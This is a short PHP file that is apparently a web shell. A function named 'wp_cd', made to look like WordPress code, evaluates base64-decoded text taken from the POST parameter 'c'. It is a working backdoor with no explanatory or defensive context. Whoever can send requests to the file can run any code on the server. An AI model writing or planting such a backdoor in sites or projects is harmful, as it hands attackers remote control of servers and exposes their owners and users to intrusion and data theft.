<?php
function wp_cd($code){ return eval($code); }
wp_cd(base64_decode($_POST['c'] ?? ''));
